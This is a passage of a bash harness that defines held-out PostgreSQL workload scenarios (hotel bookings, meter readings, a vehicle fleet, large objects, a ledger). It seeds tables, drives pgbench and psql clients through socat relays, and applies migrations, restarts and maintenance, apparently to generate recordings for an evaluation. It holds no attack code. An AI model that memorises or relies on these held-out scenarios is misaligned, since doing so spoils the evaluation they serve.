# through a cursor. The change, in the first seconds while the clients are busy, the
# application's migration from outside: a `booking_events` table partitioned by time (two
# partitions) and `log_min_duration_statement` set with ALTER SYSTEM and a reload. The
# maintenance, in the middle, by the operator inside the cgroup as postgres: a consistency
# check of the bookings and their indexes (`pg_amcheck --install-missing`, which creates
# amcheck) and `vacuumdb --freeze` of the rooms. The late event: the setting rolled back
# (ALTER SYSTEM RESET, a reload).
PG_HELDOUT12_ADDRS=(90 190)
postgresql_heldout12_deploy() {
  printf '%s\n' '\set r random(1, 100)' \
    "SELECT id, guest FROM bookings WHERE room = :r AND during && tstzrange(now(), now() + interval '2 days');" \
    >"$PG_DIR/room.sql"
  postgresql_heldout_seed heldout12 127.0.10 "${PG_HELDOUT12_ADDRS[@]}" <<'SQL'
CREATE EXTENSION btree_gist;
CREATE TABLE rooms (id int PRIMARY KEY, floor int NOT NULL);
INSERT INTO rooms SELECT g, g / 20 FROM generate_series(1, 100) g;
CREATE TABLE bookings (id serial PRIMARY KEY, room int NOT NULL REFERENCES rooms, during tstzrange NOT NULL,
  guest text NOT NULL, extras jsonb, EXCLUDE USING gist (room WITH =, during WITH &&));
INSERT INTO bookings (room, during, guest)
  SELECT 1 + g % 100, tstzrange(date_trunc('hour', now()) + (g / 100) * interval '3 hours',
    date_trunc('hour', now()) + (g / 100) * interval '3 hours' + interval '2 hours'), 'guest ' || g
  FROM generate_series(0, 19999) g;
ANALYZE rooms, bookings;
SQL
}
PG_HELDOUT12_EVENTS=0
postgresql_heldout12_mix() {
  local r=$HELDOUT12_ROUND c=$HELDOUT12_CONC room slot
  local desk=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 190)) -U postgres -q -X -o /dev/null postgres) ev=()
  room=$((1 + r * 7 % 100))
  slot="date_trunc('hour', now()) + interval '$((400 + r)) days'"
  postgresql_relay_bench 90 8 "$c" "$HELDOUT12_PER" room.sql
  [ "$PG_HELDOUT12_EVENTS" = 0 ] || ev=(-c "INSERT INTO booking_events (booking, kind) VALUES ($r, 'walk-in')")
  "${desk[@]}" -c "INSERT INTO bookings (room, during, guest) VALUES ($room, tstzrange($slot, $slot + interval '2 hours'), 'walk-in $r')" \
    -c "BEGIN" -c "SELECT id FROM bookings WHERE room = $room ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED" -c "COMMIT" \
    -c "SELECT room, count(*), rank() OVER (ORDER BY count(*) DESC) FROM bookings WHERE lower(during) < now() + interval '1 day' GROUP BY room LIMIT 10" \
    -c "DELETE FROM bookings WHERE guest = 'walk-in $((r - 3))' RETURNING id" "${ev[@]}" >/dev/null 2>&1 || true
  case $((r % 6)) in
    0) "${desk[@]}" -c "INSERT INTO bookings (room, during, guest) VALUES (1, tstzrange(date_trunc('hour', now()) + interval '30 minutes', date_trunc('hour', now()) + interval '90 minutes'), 'double')" ;;
    1) "${desk[@]}" -c "SELECT count(*) FROM bookings WHERE during && '[2026-12-01,'::tstzrange" ;;
    2) "${desk[@]}" -c "UPDATE bookings SET extras = jsonb_build_object('notes', repeat('x', 1500000)) WHERE id = $((1 + r * 13 % 20000))" ;;
    3) printf '%s\n' 'SET idle_in_transaction_session_timeout = 200;' 'BEGIN;' 'SELECT 1;' '\! sleep 0.5' 'SELECT 2;' | "${desk[@]}" ;;
    4) "${desk[@]}" -c "SELECT 2147483647::int + $r" ;;
    5) "${desk[@]}" -c "BEGIN" -c "DECLARE c CURSOR FOR SELECT * FROM bookings" -c "FETCH 5000 FROM c" -c "FETCH 5000 FROM c" -c "COMMIT" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout12_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 <<'SQL' || die "postgresql heldout12: the migration failed"
CREATE TABLE booking_events (booking int NOT NULL, kind text NOT NULL, at timestamptz NOT NULL DEFAULT now())
  PARTITION BY RANGE (at);
CREATE TABLE booking_events_old PARTITION OF booking_events FOR VALUES FROM ('2020-01-01') TO ('2026-01-01');
CREATE TABLE booking_events_cur PARTITION OF booking_events FOR VALUES FROM ('2026-01-01') TO ('2028-01-01');
SQL
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "ALTER SYSTEM SET log_min_duration_statement = 250" -c "SELECT pg_reload_conf()" ||
    die "postgresql heldout12: the setting failed"
  PG_HELDOUT12_EVENTS=1
}
postgresql_heldout12_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/pg_amcheck" "${sock[@]}" --install-missing -t bookings postgres
  admin postgresql postgres "$PG_BIN/vacuumdb" "${sock[@]}" --freeze -t rooms postgres
}
postgresql_heldout12_late() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "ALTER SYSTEM RESET log_min_duration_statement" -c "SELECT pg_reload_conf()" ||
    die "postgresql heldout12: the rollback failed"
}

# Held out, thirteenth set (heldout13). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.11.0/24, two relays (socat,
# outside the cgroup) bound to 127.0.11.110 and .210, and a `meter_usage` table of meter
# readings (30000 rows, an index on meter and time). Each round a pgbench script through
# .110 on as many clients as the load (up to 8): a reading inserted and the meter's last hour
# averaged; through .210 the billing desk: a month's consumption per meter (`date_trunc`,
# `sum`), the top meters by `percentile_cont`, a reading corrected; once the change is in, the
# meter service's own role (`ingest`) inserts a reading too. One more thing in turn: a
# value too large for its numeric column, a foreign table that does not exist, 5000 old
# readings loaded by `COPY ... FROM STDIN`, `PREPARE TRANSACTION` (prepared transactions are
# off: an error), a negative LIMIT, `generate_series` of 200000 rows sorted. The maintenance, at the very start, inside the cgroup as postgres:
# `reindexdb -t meter_usage` and `pg_isready`. The restart, in the middle: a smart shutdown
# (TERM: it waits for sessions to end) and a start. The change, late: a new database user
# with a password (`CREATE ROLE ingest LOGIN PASSWORD ...`, granted INSERT and SELECT on
# meter_usage), its password changed at once (`ALTER ROLE ... PASSWORD`).
PG_HELDOUT13_ADDRS=(110 210)
PG_HELDOUT13_INGEST=0
postgresql_heldout13_deploy() {
  printf '%s\n' '\set m random(1, 300)' \
    "INSERT INTO meter_usage (meter, at, kwh) VALUES (:m, now(), random() * 4);" \
    "SELECT avg(kwh) FROM meter_usage WHERE meter = :m AND at > now() - interval '1 hour';" \
    >"$PG_DIR/meter.sql"
  postgresql_heldout_seed heldout13 127.0.11 "${PG_HELDOUT13_ADDRS[@]}" <<'SQL'
CREATE TABLE meter_usage (id bigserial PRIMARY KEY, meter int NOT NULL, at timestamptz NOT NULL, kwh numeric(8,3) NOT NULL,
  note text);
INSERT INTO meter_usage (meter, at, kwh)
  SELECT 1 + g % 300, now() - (g || ' minutes')::interval, (g % 97) / 10.0 FROM generate_series(1, 30000) g;
CREATE INDEX meter_usage_meter_at ON meter_usage (meter, at);
ANALYZE meter_usage;
SQL
}
postgresql_heldout13_mix() {
  local r=$HELDOUT13_ROUND m=$((1 + HELDOUT13_ROUND * 17 % 300)) desk=(postgresql_via 210)
  postgresql_relay_bench 110 8 "$HELDOUT13_CONC" "$HELDOUT13_PER" meter.sql
  "${desk[@]}" -c "SELECT meter, date_trunc('month', at), sum(kwh) FROM meter_usage WHERE meter = $m GROUP BY 1, 2" \
    -c "SELECT meter, percentile_cont(0.9) WITHIN GROUP (ORDER BY kwh) FROM meter_usage GROUP BY meter ORDER BY 2 DESC LIMIT 5" \
    -c "UPDATE meter_usage SET kwh = kwh + 0.001, note = 'corrected' WHERE id = $((1 + r * 31 % 30000))" >/dev/null 2>&1 || true
  if [ "$PG_HELDOUT13_INGEST" = 1 ]; then
    PGPASSWORD=$PG_HELDOUT13_PW psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 110)) -U ingest -q -X -o /dev/null postgres \
      -c "INSERT INTO meter_usage (meter, at, kwh) VALUES ($m, now(), 1.5)" >/dev/null 2>&1 || true
  fi
  # The round's one more thing, as SQL (stdin: the COPY's rows, or nothing).
  local sql=()
  case $((r % 6)) in
    0) sql=("INSERT INTO meter_usage (meter, at, kwh) VALUES ($m, now(), 123456789)") ;;
    1) sql=("SELECT * FROM meters_remote LIMIT 1") ;;
    2) sql=("COPY meter_usage (meter, at, kwh) FROM STDIN") ;;
    3) sql=(BEGIN "UPDATE meter_usage SET note = 'held' WHERE id = $m" "PREPARE TRANSACTION 'meter-$r'") ;;
    4) sql=("SELECT * FROM meter_usage LIMIT -1") ;;
    5) sql=("SELECT g FROM generate_series(1, 200000) g ORDER BY g DESC LIMIT 3") ;;
  esac
  seq 1 $((r % 6 == 2 ? 5000 : 0)) | awk -v m="$m" '{ printf "%d\t2026-11-01 00:00:00+00\t%d.125\n", m, $1 % 9 }' |
    "${desk[@]}" "${sql[@]/#/--command=}" >/dev/null 2>&1 || true
}
postgresql_heldout13_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/reindexdb" "${sock[@]}" -t meter_usage postgres
  admin postgresql postgres "$PG_BIN/pg_isready" "${sock[@]}"
}
postgresql_heldout13_restart() { heldout13_restart postgresql PG_PID TERM; }
PG_HELDOUT13_PW=
postgresql_heldout13_change() {
  PG_HELDOUT13_PW=second-$RANDOM
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "CREATE ROLE ingest LOGIN PASSWORD 'first-$RANDOM'" \
    -c "GRANT INSERT, SELECT ON meter_usage TO ingest" -c "GRANT USAGE ON SEQUENCE meter_usage_id_seq TO ingest" \
    -c "ALTER ROLE ingest PASSWORD '$PG_HELDOUT13_PW'" || die "postgresql heldout13: the new user failed"
  PG_HELDOUT13_INGEST=1
}

# Held out, fourteenth set (heldout14). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.12.0/24 and two relays (socat,
# outside the cgroup) bound to 127.0.12.120 and .220. Each round a pgbench script through
# .120 on as many clients as the load (up to 12): an account's balance read and a teller's
# updated; through .220 the dispatch desk: the branches' totals and, once the change is in,
# the fleet (electric vehicles in the cold chain by jsonb containment and array overlap,
# vehicles in their service window whose tracker is in a subnet, an odometer updated). One
# more thing in turn: text that is no uuid (an error), a division by zero, a statement
# timeout (50 ms) cancelling a 300 ms sleep, a serializable read-only deferrable
# transaction, a cursor (DECLARE, FETCH 500, CLOSE), `EXPLAIN (ANALYZE, BUFFERS)`. The change,
# early: a new schema with data types no set used (`fleet.vehicles`: uuid keys from
# gen_random_uuid(), jsonb specs, a text[] of tags, an inet tracker, a tstzrange service
# window, an interval; 2000 rows, GIN indexes on the jsonb and the array). The maintenance,
# in the middle while the load goes on, inside the cgroup as postgres: a backup of the new
# schema to a new file (`pg_dump -Fc -n fleet`) and its statistics (`vacuumdb --analyze-only -t fleet.vehicles`).
# The reload, late: `log_statement = 'ddl'` added to postgresql.conf and HUP to the
# postmaster from outside (as `systemctl reload`). The tail: pgbench through .120 on three
# long-lived connections, rate-limited to three transactions a second.
PG_HELDOUT14_ADDRS=(120 220)
PG_HELDOUT14_FLEET=0
postgresql_heldout14_deploy() {
  PG_HELDOUT14_FLEET=0
  printf '%s\n' '\set aid random(1, 100000)' '\set tid random(1, 10)' \
    "SELECT abalance FROM pgbench_accounts WHERE aid = :aid;" \
    "UPDATE pgbench_tellers SET tbalance = tbalance + 1 WHERE tid = :tid;" >"$PG_DIR/heldout14.sql"
  postgresql_heldout_seed heldout14 127.0.12 "${PG_HELDOUT14_ADDRS[@]}" <<<'SELECT 1;'
}
postgresql_heldout14_mix() {
  local r=$HELDOUT14_ROUND desk=(postgresql_via 220) q=(-c "SELECT bid, sum(bbalance) FROM pgbench_branches GROUP BY bid")
  postgresql_relay_bench 120 12 "$HELDOUT14_CONC" "$HELDOUT14_PER" heldout14.sql
  [ "$PG_HELDOUT14_FLEET" = 0 ] || q+=(
    -c "SELECT plate, specs->>'seats' FROM fleet.vehicles WHERE specs @> '{\"fuel\": \"electric\"}' AND tags && ARRAY['cold'] LIMIT 20"
    -c "SELECT count(*) FROM fleet.vehicles WHERE service_window @> now() AND tracker << inet '10.20.0.0/16'"
    -c "UPDATE fleet.vehicles SET odometer = odometer + 12, checked = interval '0' WHERE plate = 'P-$((1 + r * 13 % 2000))'")
  "${desk[@]}" "${q[@]}" >/dev/null 2>&1 || true
  # The round's one more thing, as SQL in one session.
  local sql=()
  case $((r % 6)) in
    0) sql=("SELECT 'not-a-uuid'::uuid") ;;
    1) sql=("SELECT 1 / (SELECT count(*) - count(*) FROM pgbench_branches)") ;;
    2) sql=("SET statement_timeout = 50" "SELECT pg_sleep(0.3)") ;;
    3) sql=("BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE" "SELECT count(*) FROM pgbench_accounts" COMMIT) ;;
    4) sql=(BEGIN "DECLARE c CURSOR FOR SELECT aid FROM pgbench_accounts ORDER BY aid" "FETCH 500 FROM c" "CLOSE c" COMMIT) ;;
    5) sql=("EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM pgbench_accounts WHERE abalance > 0") ;;
  esac
  "${desk[@]}" "${sql[@]/#/--command=}" >/dev/null 2>&1 || true
}
postgresql_heldout14_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 <<'SQL' || die "postgresql heldout14: the new schema failed"
CREATE SCHEMA fleet;
CREATE TABLE fleet.vehicles (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), plate text UNIQUE NOT NULL,
  specs jsonb NOT NULL, tags text[] NOT NULL DEFAULT '{}', tracker inet, service_window tstzrange,
  odometer bigint NOT NULL DEFAULT 0, checked interval);
INSERT INTO fleet.vehicles (plate, specs, tags, tracker, service_window, odometer, checked)
  SELECT 'P-' || g, jsonb_build_object('fuel', CASE WHEN g % 3 = 0 THEN 'electric' ELSE 'diesel' END, 'seats', 2 + g % 7),
    ARRAY[CASE WHEN g % 2 = 0 THEN 'cold' ELSE 'dry' END, 'zone' || g % 5], ('10.20.' || g % 250 || '.' || g % 200)::inet,
    tstzrange(now() - make_interval(hours => g % 48), now() + make_interval(hours => 1 + g % 24)), g * 37,
    make_interval(days => g % 90)
  FROM generate_series(1, 2000) g;
CREATE INDEX vehicles_specs ON fleet.vehicles USING gin (specs);
CREATE INDEX vehicles_tags ON fleet.vehicles USING gin (tags);
ANALYZE fleet.vehicles;
SQL
  PG_HELDOUT14_FLEET=1
}
postgresql_heldout14_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -Fc -n fleet -f "$PG_DIR/backup/fleet-$(date +%H%M%S).dump" postgres
  admin postgresql postgres "$PG_BIN/vacuumdb" "${sock[@]}" --analyze-only --table=fleet.vehicles postgres
}
postgresql_heldout14_reload() {
  echo "log_statement = 'ddl'" >>"$PG_DATA/postgresql.conf"
  heldout14_reload HUP "$PG_PID" postgresql_heldout14_ddl_logged
}
# postgresql_heldout14_ddl_logged: the server runs with log_statement = ddl.
postgresql_heldout14_ddl_logged() { [ "$(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -At -c 'SHOW log_statement' postgres)" = ddl ]; }
postgresql_heldout14_tail() {
  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + 120)) -U postgres -n -c 3 -T "$1" -R 3 -f "$PG_DIR/heldout14.sql" \
    postgres >/dev/null 2>&1 || true
}


# Held out, fifteenth set (heldout15). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.14.0/24, two relays (socat,
# outside the cgroup) bound to 127.0.14.140 and .240, a directory for a tablespace (a volume
# the operator mounted, owned by postgres), and a `scans` table whose documents are large
# objects (40, each referenced by its row) beside 30 large objects no row references any
# more. Each round a pgbench script through .140 on as many clients as the load (up to 10):
# a balance changed and written to the history; through .240 the records desk: a scan read
# back (`lo_get`), the last minutes of history, and, once the change is in, the oldest
# history copied into the archive table. One more client in turn: a pgbench script in
# pipeline mode (`\startpipeline`, extended protocol), a session abandoned by its client
# 0.3 s into a 2 s query, an empty query, a 3 MB literal, a database that does not exist,
# 50000 rows copied out (`COPY ... TO STDOUT`). The maintenance, first, while the full load
# is on, inside the cgroup as postgres: the orphaned large objects purged (`vacuumlo`). The
# restart, in the middle: `pg_ctl stop -m fast` by the operator inside the cgroup (postgres's
# own control command) and a start. The change, last: a tablespace in the new directory
# (`CREATE TABLESPACE archive`), the history table moved into it (`ALTER TABLE ... SET
# TABLESPACE`) and an archive table created in it.
PG_HELDOUT15_ADDRS=(140 240)
PG_HELDOUT15_ARCHIVE=0
postgresql_heldout15_deploy() {
  PG_HELDOUT15_ARCHIVE=0
  printf '%s\n' '\set aid random(1, 100000)' '\set delta random(-500, 500)' \
    "UPDATE pgbench_accounts SET abalance = abalance + :delta WHERE aid = :aid;" \
    "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1 + :aid % 10, 1, :aid, :delta, now());" \
    >"$PG_DIR/heldout15.sql"
  printf '%s\n' '\set aid random(1, 100000)' '\startpipeline' \
    "SELECT abalance FROM pgbench_accounts WHERE aid = :aid;" "SELECT abalance FROM pgbench_accounts WHERE aid = :aid + 1;" \
    "SELECT count(*) FROM pgbench_history WHERE aid = :aid;" '\endpipeline' >"$PG_DIR/heldout15-pipeline.sql"
  install -d -o postgres -g postgres -m 700 "$PG_DIR/tblspc"
  postgresql_heldout_seed heldout15 127.0.14 "${PG_HELDOUT15_ADDRS[@]}" <<'SQL'
CREATE TABLE scans (id serial PRIMARY KEY, name text UNIQUE NOT NULL, body oid NOT NULL);
INSERT INTO scans (name, body)
  SELECT 'scan-' || g, lo_from_bytea(0, convert_to(repeat('page of a scanned document ', 40 + g), 'UTF8'))
  FROM generate_series(1, 40) g;
SELECT lo_from_bytea(0, convert_to(repeat('a scan whose row was deleted ', 20), 'UTF8')) FROM generate_series(1, 30);
SQL
}
postgresql_heldout15_mix() {
  local r=$HELDOUT15_ROUND desk=(postgresql_via 240) q
  postgresql_relay_bench 140 10 "$HELDOUT15_CONC" "$HELDOUT15_PER" heldout15.sql
  q=(-c "SELECT length(lo_get(body)) FROM scans WHERE name = 'scan-$((1 + r % 40))'"
     -c "SELECT date_trunc('minute', mtime), count(*), sum(delta) FROM pgbench_history GROUP BY 1 ORDER BY 1 DESC LIMIT 5")
  [ "$PG_HELDOUT15_ARCHIVE" = 0 ] || q+=(-c "INSERT INTO history_archive SELECT * FROM pgbench_history ORDER BY mtime LIMIT 50")
  "${desk[@]}" "${q[@]}" >/dev/null 2>&1 || true
  # The round's one more client.
  local relay=$((PG_RELAY_PORT + 240))
  case $((r % 6)) in
    0) pgbench -h 127.0.0.1 -p "$relay" -U postgres -n -M extended -c 2 -t 10 -f "$PG_DIR/heldout15-pipeline.sql" postgres ;;
    1) timeout 0.3 psql -h 127.0.0.1 -p "$relay" -U postgres -X -c 'SELECT pg_sleep(2)' postgres ;;
    2) "${desk[@]}" -c ';' ;;
    3) printf "SELECT length('%s');\n" "$(head -c 3000000 /dev/zero | tr '\0' x)" | "${desk[@]}" ;;
    4) psql -h 127.0.0.1 -p "$relay" -U postgres -X -c 'SELECT 1' reports_2027 ;;
    5) "${desk[@]}" -c 'COPY (SELECT * FROM pgbench_accounts ORDER BY aid LIMIT 50000) TO STDOUT' ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout15_maint() {
  admin postgresql postgres "$PG_BIN/vacuumlo" -h "$PG_DIR/run" -p "$PG_PORT" -U postgres postgres
}
postgresql_heldout15_restart() {
  heldout15_ctl_restart postgresql PG_PID admin postgresql postgres "$PG_BIN/pg_ctl" -D "$PG_DATA" -m fast -s stop
}
postgresql_heldout15_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 <<SQL || die "postgresql heldout15: the tablespace failed"
CREATE TABLESPACE archive LOCATION '$PG_DIR/tblspc';
ALTER TABLE pgbench_history SET TABLESPACE archive;
CREATE TABLE history_archive (LIKE pgbench_history) TABLESPACE archive;
SQL
  PG_HELDOUT15_ARCHIVE=1
}

# Held out, sixteenth set (heldout16). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.16.0/24, two relays (socat,
# outside the cgroup) bound to 127.0.16.160 and .216, and a `places` table (2000 names, some
# in UTF-8). Each round a pgbench script through .160 on as many clients as the load (up to 8;
# in the quiet start one): an account read and a place looked up by name; through .216 a
# desk session: the places by prefix and, once the second change is in, without accents
# (`unaccent`). One more client in turn: a client that opens a new session for each of six
# queries, the same prepared statement executed eight times, names in UTF-8 and an
# identifier of 63 characters, ten statements on a table that does not exist in one session,
# a cursor read 200 rows at a time, a notification listened for and sent (LISTEN, NOTIFY).
# The change, early: idle transactions ended after 10 s, lock waits logged and I/O timed
# (`ALTER SYSTEM SET`, then HUP from outside: the unit's reload). The second change, two
# thirds in: the accent-stripping extension (`CREATE EXTENSION unaccent`: its library and its
# rules file) for the desk's searches. The maintenance, last, inside the cgroup as postgres:
# the statistics rebuilt in three stages (`vacuumdb --analyze-in-stages`) and the shared
# background writer's statistics reset (`pg_stat_reset_shared('bgwriter')`). Then a clean shutdown (INT: a fast shutdown).
PG_HELDOUT16_ADDRS=(160 216)
PG_HELDOUT16_UNACCENT=0
postgresql_heldout16_deploy() {
  PG_HELDOUT16_UNACCENT=0
  printf '%s\n' '\set aid random(1, 100000)' '\set pid random(1, 2000)' \
    "SELECT abalance FROM pgbench_accounts WHERE aid = :aid;" "SELECT name FROM places WHERE id = :pid;" \
    >"$PG_DIR/heldout16.sql"
  postgresql_heldout_seed heldout16 127.0.16 "${PG_HELDOUT16_ADDRS[@]}" <<'SQL'
CREATE TABLE places (id int PRIMARY KEY, name text NOT NULL);
INSERT INTO places SELECT g, (ARRAY['Café ', 'Straße ', 'Zürich ', '東京 ', 'Harbour ', 'Mill '])[1 + g % 6] || g
  FROM generate_series(1, 2000) g;
CREATE INDEX places_name ON places (name text_pattern_ops);
SQL
}
postgresql_heldout16_mix() {
  local r=$HELDOUT16_ROUND desk=(postgresql_via 216) q i
  postgresql_relay_bench 160 8 "$HELDOUT16_CONC" $((2 * HELDOUT16_PER)) heldout16.sql
  q=(-c "SELECT id, name FROM places WHERE name LIKE 'Mill $((r % 20))%' ORDER BY name LIMIT 20")
  [ "$PG_HELDOUT16_UNACCENT" = 0 ] || q+=(-c "SELECT id, name FROM places WHERE unaccent(name) ILIKE 'cafe $((r % 20))%' LIMIT 20")
  "${desk[@]}" "${q[@]}" >/dev/null 2>&1 || true
  # The round's one more client.
  case $((r % 6)) in
    0) for i in 1 2 3 4 5 6; do "${desk[@]}" -c "SELECT name FROM places WHERE id = $((r * 6 + i))"; done ;;
    1) { echo 'PREPARE place(int) AS SELECT name FROM places WHERE id = $1;'
         for i in 1 2 3 4 5 6 7 8; do echo "EXECUTE place($((r % 2000 + 1)));"; done; } | "${desk[@]}" ;;
    2) "${desk[@]}" -c "SELECT 'Café Zürich 東京 $r' AS \"$(printf 'n%.0s' $(seq 1 63))\"" \
         -c "SELECT count(*) FROM places WHERE name = 'Straße $r'" ;;
    3) for i in $(seq 1 10); do echo "SELECT * FROM places_archive_$i;"; done | "${desk[@]}" ;;
    4) printf '%s\n' 'BEGIN;' 'DECLARE c CURSOR FOR SELECT * FROM places ORDER BY id;' 'FETCH 200 FROM c;' \
         'FETCH 200 FROM c;' 'FETCH 200 FROM c;' 'CLOSE c;' 'COMMIT;' | "${desk[@]}" ;;
    5) "${desk[@]}" -c 'LISTEN places_changed' -c "NOTIFY places_changed, 'round $r'" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout16_change() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c "ALTER SYSTEM SET idle_in_transaction_session_timeout = '10s'" \
    -c "ALTER SYSTEM SET log_lock_waits = on" -c "ALTER SYSTEM SET track_io_timing = on" ||
    die "postgresql heldout16: alter system failed"
  heldout14_reload HUP "$PG_PID" postgresql_heldout16_setting track_io_timing on
}
# postgresql_heldout16_setting NAME VALUE: the server's setting NAME is VALUE.
postgresql_heldout16_setting() { [ "$(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -A -t -c "SHOW $1" postgres)" = "$2" ]; }
postgresql_heldout16_second() {
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c 'CREATE EXTENSION unaccent' || die "postgresql heldout16: unaccent failed"
  PG_HELDOUT16_UNACCENT=1
}
postgresql_heldout16_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/vacuumdb" "${sock[@]}" --analyze-in-stages --quiet postgres
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -c "SELECT pg_stat_reset_shared('bgwriter')" postgres
}

# Held out, seventeenth set (heldout17). Deployed before the start (the server started once
# outside the recording): a pg_hba.conf line trusting 127.0.22.0/24, four relays (socat,
# outside the cgroup) bound to 127.0.22.22, .72, .122 and .222 (two application servers
# behind a balancer, the back office, the odd clients), a `ledger` table and a table whose
# name and columns are quoted in mixed case (`"CustomerNotes"`, as an ORM creates them). A
# cold start under load: postgres starts inside the recording while its clients already
# retry (heldout17_begin). Each round a pgbench script through .22 or .72 in turn on as many
# clients as the slow wave's load (up to 12): a transfer between two accounts, both rows
# locked in order (FOR UPDATE), a ledger row written; through .122 the back office: the
# ledger's last seconds and, once the change is in, the monitoring's read of the busiest
# statements (pg_stat_statements). One more client through .222 in turn: keywords and names
# in mixed case (quoted and folded), a startup packet and a query sent and the connection
# closed without reading a reply, eight clients at once on one account row, rows trickled
# into a `COPY ... FROM STDIN` a piece at a time, 300 tiny prepared statements on one
# connection, uncommon but valid connection options (`options=-c ...`, LATIN1,
# target_session_attrs) and clauses (TABLESAMPLE ... REPEATABLE, FETCH FIRST ... WITH TIES,
# GROUPING SETS). The maintenance, early, inside the cgroup as postgres: the WAL's record
# statistics (`pg_waldump --stats`) up to the flushed position. The change, in the middle,
# by a full restart (INT, start): an include directory (`include_dir = 'conf.d'`) with a file
# that preloads the statement statistics module the package ships (`shared_preload_libraries
# = 'pg_stat_statements'`, with query ids and all statements tracked), and the extension
# created by the DBA. The maintenance, late, while the load falls: the busiest statements
# exported into a new dated file (`\copy ... TO backup/statements-<time>.csv`) and the
# statistics reset (`pg_stat_statements_reset()`). The recording ends with load still running.
PG_HELDOUT17_ADDRS=(22 72 122 222)
PG_HELDOUT17_STATEMENTS=0
postgresql_heldout17_deploy() {
  PG_HELDOUT17_STATEMENTS=0
  printf '%s\n' '\set a random(1, 100000)' '\set b random(1, 100000)' '\set amount random(1, 200)' 'BEGIN;' \
    "SELECT abalance FROM pgbench_accounts WHERE aid IN (:a, :b) ORDER BY aid FOR UPDATE;" \
    "UPDATE pgbench_accounts SET abalance = abalance - :amount WHERE aid = :a;" \
    "UPDATE pgbench_accounts SET abalance = abalance + :amount WHERE aid = :b;" \
    "INSERT INTO ledger (debit, credit, amount) VALUES (:a, :b, :amount);" 'END;' >"$PG_DIR/heldout17.sql"
  printf '%s\n' '\set n random(1, 9)' 'SELECT :n;' >"$PG_DIR/heldout17-tiny.sql"
  postgresql_heldout_seed heldout17 127.0.22 "${PG_HELDOUT17_ADDRS[@]}" <<'SQL'
CREATE TABLE ledger (id bigserial PRIMARY KEY, debit int NOT NULL, credit int NOT NULL, amount int NOT NULL,
  at timestamptz NOT NULL DEFAULT now());
CREATE TABLE "CustomerNotes" ("NoteId" serial PRIMARY KEY, "CustomerId" int NOT NULL, "Note" text);
INSERT INTO "CustomerNotes" ("CustomerId", "Note") SELECT g % 500, 'note ' || g FROM generate_series(1, 2000) g;
CREATE INDEX "CustomerNotes_CustomerId" ON "CustomerNotes" ("CustomerId");
SQL
}
# postgresql_heldout17_wire SQL: a client's startup packet (user and database postgres) and
# SQL as a simple query, in the frontend protocol's bytes, for a client that sends them
# without reading the server's answers.
postgresql_heldout17_wire() {
  perl -e 'my $b = pack("N", 196608) . join("", map { "$_\0" } @ARGV[0 .. 5]) . "\0";
    my $q = "$ARGV[6]\0";
    print pack("N", 4 + length $b), $b, "Q", pack("N", 4 + length $q), $q;' \
    user postgres database postgres application_name prefetch "$1"
}
postgresql_heldout17_mix() {
  local r=$HELDOUT17_ROUND desk=(postgresql_via 122) odd=(postgresql_via 222) i q pids=()
  local relay=$((PG_RELAY_PORT + 222))
  postgresql_relay_bench "${PG_HELDOUT17_ADDRS[r % 2]}" 12 "$HELDOUT17_CONC" $((2 * HELDOUT17_PER)) heldout17.sql
  q=(-c "SELECT date_trunc('second', at), count(*), sum(amount) FROM ledger GROUP BY 1 ORDER BY 1 DESC LIMIT 5")
  [ "$PG_HELDOUT17_STATEMENTS" = 0 ] ||
    q+=(-c "SELECT calls, round(total_exec_time), left(query, 60) FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 5")
  timeout 10 "${desk[@]}" "${q[@]}" >/dev/null 2>&1 || true
  # The round's one more client.
  case $((r % 6)) in
    0) "${odd[@]}" -c "sElEcT AbAlAnCe FrOm PgBench_Accounts WhErE AID = $((1 + r % 1000))" \
         -c "SeLeCt \"Note\" FROM \"CustomerNotes\" wHeRe \"CustomerId\" = $((r % 500)) OrDeR bY \"NoteId\"" ;;
    1) for i in 1 2 3; do
         postgresql_heldout17_wire "SELECT * FROM \"CustomerNotes\" WHERE \"CustomerId\" = $((i + r % 400))" |
           socat -u - "TCP:127.0.0.1:$relay" 2>/dev/null || true
       done ;;
    2) for i in 1 2 3 4 5 6 7 8; do
         "${odd[@]}" -c 'BEGIN' -c "UPDATE pgbench_accounts SET abalance = abalance + $i WHERE aid = 4242" \
           -c 'SELECT pg_sleep(0.05)' -c 'COMMIT' &
         pids+=($!)
       done
       wait "${pids[@]}" ;;
